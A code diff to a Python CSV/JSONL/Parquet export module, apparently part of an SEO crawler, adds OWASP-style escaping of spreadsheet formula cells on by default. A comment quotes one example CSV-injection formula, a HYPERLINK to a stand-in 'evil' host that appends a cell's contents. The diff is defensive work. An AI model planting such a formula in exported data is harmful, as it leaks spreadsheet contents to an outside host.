@@ -8,6 +8,7 @@ from __future__ import annotations
 import csv
 import json
 import os
+import re
 import sys
 from pathlib import Path
 from typing import IO, Sequence
@@ -31,19 +32,41 @@ def _format_for(path: str | os.PathLike | None, fmt: str | None) -> str:
     return FORMATS[suffix]
 
 
-def _cell(value: object) -> object:
+# A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (OWASP "CSV injection"), even
+# after leading spaces; anchors, page titles and export columns come from pages anyone can write, so
+# `=HYPERLINK("http://evil/?"&A2, "open")` in an anchor would run on the SEO team's machine.
+_FORMULA_START = re.compile(r"[\s\u00a0]*[=+\-@\t\r]")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def formula_safe(value: object) -> object:
+    """``value`` for a CSV cell: text a spreadsheet would run as a formula gets a leading ', as OWASP advises.
+
+    Numbers written as text ("-3") are left alone: no spreadsheet runs them.
+    """
+    if isinstance(value, str) and _FORMULA_START.match(value) and not _PLAIN_NUMBER.fullmatch(value.strip()):
+        return "'" + value
+    return value
+
+
+def _cell(value: object, escape_formulas: bool = False) -> object:
     if value is None:
         return ""
     if isinstance(value, bool):
         return "true" if value else "false"
-    return value
+    return formula_safe(value) if escape_formulas else value
 
 
 class RowWriter:
-    """Write row chunks to CSV or JSONL; a context manager. Columns: OUTPUT_COLUMNS then the first chunk's export_*."""
+    """Write row chunks to CSV or JSONL; a context manager. Columns: OUTPUT_COLUMNS then the first chunk's export_*.
 
-    def __init__(self, stream: IO[str], fmt: str, *, owns_stream: bool) -> None:
+    CSV cells that a spreadsheet would run as a formula start with ' unless ``escape_formulas`` is False (JSONL
+    always holds the values as they are).
+    """
+
+    def __init__(self, stream: IO[str], fmt: str, *, owns_stream: bool, escape_formulas: bool = True) -> None:
         self._stream, self._fmt, self._owns = stream, fmt, owns_stream
+        self._escape = escape_formulas
         self._csv: csv.DictWriter | None = None
 
     def write(self, rows: Sequence[dict]) -> None:
@@ -58,7 +81,7 @@ class RowWriter:
             # Later chunks' unseen export columns are dropped: a CSV header cannot grow after it is written.
             self._csv = csv.DictWriter(self._stream, [*OUTPUT_COLUMNS, *exports], extrasaction="ignore")
             self._csv.writeheader()
-        self._csv.writerows({key: _cell(value) for key, value in row.items()} for row in rows)
+        self._csv.writerows({key: _cell(value, self._escape) for key, value in row.items()} for row in rows)
 
     def close(self) -> None:
         if self._csv is None and self._fmt == "csv":  # no rows at all: still a CSV with its header
@@ -74,16 +97,21 @@ class RowWriter:
         self.close()
 
 
-def open_writer(path: str | os.PathLike | None, fmt: str | None = None, *, stream: IO[str] | None = None) -> "RowWriter | ParquetRowWriter":
-    """Open a writer for ``path`` (None: CSV to stdout, or to ``stream``); format from ``fmt`` or the extension."""
+def open_writer(path: str | os.PathLike | None, fmt: str | None = None, *, stream: IO[str] | None = None,
+                escape_formulas: bool = True) -> "RowWriter | ParquetRowWriter":
+    """Open a writer for ``path`` (None: CSV to stdout, or to ``stream``); format from ``fmt`` or the extension.
+
+    ``escape_formulas``: CSV only, see RowWriter.
+    """
     kind = _format_for(path, fmt)
     if kind == "parquet":
         if path is None:
             raise InputError("Parquet cannot go to standard output: give an output file with -o")
         return ParquetRowWriter(path)
     if path is None:
-        return RowWriter(stream or sys.stdout, kind, owns_stream=False)
-    return RowWriter(open(path, "w", encoding="utf-8", newline=""), kind, owns_stream=True)
+        return RowWriter(stream or sys.stdout, kind, owns_stream=False, escape_formulas=escape_formulas)
+    return RowWriter(open(path, "w", encoding="utf-8", newline=""), kind, owns_stream=True,
+                     escape_formulas=escape_formulas)
 
 
 def _arrow_type(name: str, rows: Sequence[dict]):
